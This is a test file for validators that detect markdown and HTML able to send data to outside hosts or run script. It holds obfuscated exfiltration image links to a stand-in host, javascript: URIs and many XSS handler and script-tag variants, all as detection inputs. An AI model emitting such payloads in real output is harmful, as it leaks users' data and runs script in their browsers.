"""Links that lead outside, and HTML that does something."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handrail.errors import ConfigError
from handrail.validators import parse
from tests.validators.safety.tricks import codes, found, passed

CARRIES = "outside_links(level='carries')"
SEEN = (
    "![a](https://x.com/?d=1)",
    "![a]( https://x.com/?d=1 )",
    "![a](<https://x.com/?d=1>)",
    '![a](\nhttps://x.com/?d=1 "title")',
    "![a](//x.com/?d=1)",
    "![a](https:\\\\x.com\\?d=1)",
    "![a](https:/x.com/?d=1)",
    "![a](HTTPS://X.COM/?d=1)",
    "![a](ht&#116;ps&colon;//x.com/?d=1)",
    "![a](https\\://x.com/?d=1)",
    "![a\\]b](https://x.com/?d=1)",
    "![a [b] c](https://x.com/?d=1)",
    "[![a](https://x.com/?d=1)](https://ok.com)",
    "![a][r]\n\n[r]: https://x.com/?d=1",
    "![R  x]\n\n[r X]: <https://x.com/?d=1>",
    "![a][]\n\n> [a]:\n  https://x.com/?d=1",
    "`![a](https://x.com/?d=1)`",
    "![a](https://me:pw@x.com/)",
    "![a](https://x.com/" + "a" * 70 + ".png)",
    "![a](https://" + "a" * 45 + ".x.com/b.png)",
    "<img src=https://x.com/?d=1>",
    "<IMG\nSRC = 'https://x.com/?d=1'>",
    "<img/src=https://x.com/?d=1>",
    '<img alt=">" src="https://x.com/?d=1">',
    '<img src="https://x.com/?d=1',
    "<img src=\"ht\ntps://x.com/?d=1\">",
    "<img srcset='a.png 1x, https://x.com/?d=1 2x'>",
    "<video poster=https://x.com/?d=1>",
    "<object data=https://x.com/?d=1>",
    "<link rel=stylesheet href=https://x.com/?d=1>",
    "<svg><image xlink:href='https://x.com/?d=1'/></svg>",
    '<p style="background:url(&quot;https://x.com/?d=1&quot;)">',
    "<style>@import 'https://x.com/?d=1';</style>",
    "<meta http-equiv=refresh content='0; url=https://x.com/?d=1'>",
    "<body background=//x.com/?d=1>",
    {"a": [{"b": "![a](https://x.com/?d=1)"}]},
    "[a](javascript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "<a href=' javascript:alert(1)'>",
    "<javascript:alert(1)>",
    "[a](data:text/html;base64,PHM+)",
)  # fmt: skip
UNSEEN = (
    "![a](https://x.com/123456.png)",
    "<p style='background:u\\72l(https://x.com/?d=1)'>",
    "[[https]]",
    "mailto:ana@x.com?body=secret",
    "x.com/?d=1",
    "![a](/redirect?to=x)",
)
HTML = (
    "<script>x",
    "<SCRIPT SRC=//x>",
    "<script/x>",
    "</script>",
    "<iframe src=/x>",
    "<object data=x>",
    "<embed src=x>",
    "<svg onload=x>",
    "<math>",
    "<form action=/x>",
    "<input autofocus onfocus=x>",
    "<base href=//x>",
    "<meta http-equiv=refresh>",
    "<link rel=stylesheet href=x>",
    "<style>*{}</style>",
    "<img src=x onerror=x>",
    "<img src=x ONERROR = x>",
    "<img/onerror=x>",
    "<b\nonclick=x>",
    '<p title=">" onclick=x>',
    '<b x=""onclick=x>',
    "<a href=javascript:x>",
    "<a href='java\nscript:x'>",
    '<a href="&#106;avascript&colon;x">',
    "<svg:script>x",
)
HTML_UNSEEN = ("&lt;script&gt;", "<b>bold</b>", "<x-widget>", "＜script＞")


def test_tries_to_take_data_out() -> None:
    """Pictures and everything that loads are seen in every notation, with escapes, references, controls, in code."""
    assert passed(CARRIES, SEEN) == []


def test_what_links_it_does_not_see() -> None:
    """What the docstring says is not seen is not seen."""
    assert found(CARRIES, UNSEEN) == []


def test_levels() -> None:
    """What carries data is refused always, what loads without it and what waits for a click as the level says."""
    texts = {
        "link": "[a](https://x.com/?d=1)",
        "load": "![a](https://x.com/a.png)",
        "carries": "![a](https://x.com/?d=1)",
    }
    for level, refused in {"links": 3, "loads": 2, "carries": 1}.items():
        check = f"outside_links(level='{level}')"
        said = {kind: codes(check, text) for kind, text in texts.items()}
        assert sum(map(bool, said.values())) == refused
        assert all(one in ([], [f"outside_links.{kind}"]) for kind, one in said.items())
    with pytest.raises(ConfigError, match="links, loads, carries"):
        parse("outside_links(level='all')")


def test_hosts() -> None:
    """An allowed host passes in every spelling of it; its look-alikes do not; a host that is none is refused."""
    check = "outside_links(hosts=['example.com', '*.example.org'])"
    assert (
        found(
            check, ["[a](https://EXAMPLE.com./)", "![a](//img.example.org/?w=1)", "<img src=https://example.com:8/a>"]
        )
        == []
    )
    others = ["https://example.com.x.com", "https://example.com@x.com", "https://xexample.com", "https://example.org",
              "https://x.com/?example.com", "https://x.com\\@example.com", "https://x.com#example.com"]  # fmt: skip
    assert passed(check, [f"[a]({other})" for other in others]) == []
    with pytest.raises(ConfigError, match="is no host"):
        parse("outside_links(hosts=['http://a'])")


def test_inside_is_fine() -> None:
    """Relative links, fragments, plain pictures inside and addresses of people pass."""
    good = [
        "[a](/b)",
        "[a](b.md#c)",
        "![a](data:image/png;base64,AAAA)",
        "ana@example.com",
        "a // b",
        "[mail](mailto:a@b.c)",
        "array[0](x)",
        "if a[i]: b",
        "<img src=/a.png>",
        "see section 2: done",
    ]
    assert found("outside_links()", good) == []


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40), st.text("ab /[]()!<>`*\n", max_size=40))
@settings(max_examples=100, deadline=None)
def test_no_text_around_hides_an_image(before: str, after: str) -> None:
    """An HTML image that carries data is found whatever stands before and after it."""
    text = f"{before}<img src='https://x.com/?d=1'>{after}"
    assert "outside_links.carries" in codes(CARRIES, text) or before.count("'") + before.count('"') > 0


def test_spans() -> None:
    """The span is the address where it is written, and the excerpt the address as it would be used."""
    text = "x ![a](https&colon;//x.com/?d=1) y"
    (finding,) = parse(CARRIES).check(text)
    assert finding.span == (7, 31)
    assert text[7:31] == "https&colon;//x.com/?d=1"
    assert finding.excerpt == "https://x.com/?d=1"


def test_tries_to_run_html() -> None:
    """Scripts, handlers, frames, forms, page elements and SVG are seen in any case, spacing and quoting."""
    assert passed("html_free()", HTML) == []


def test_what_html_it_does_not_see() -> None:
    """Escaped, plain and custom elements are not refused; any element is where asked for."""
    assert found("html_free()", HTML_UNSEEN) == []
    assert codes("html_free(any_tag=true)", "<x-widget>") == ["html_free.tag"]


def test_honest_angles() -> None:
    """Comparisons, generics and prose with signs pass, also where no element at all may be."""
    good = [
        "a < b > c",
        "if (a <b) on = 1",
        "x <- 5",
        "1<2",
        "Map<String, List<Int>>"[:4],
        "I <3 you",
        "on = off",
        "<= >=",
    ]
    assert found("html_free()", good) == []
    assert found("html_free(any_tag=true)", ["1<2", "x <- 5", "I <3 you"]) == []
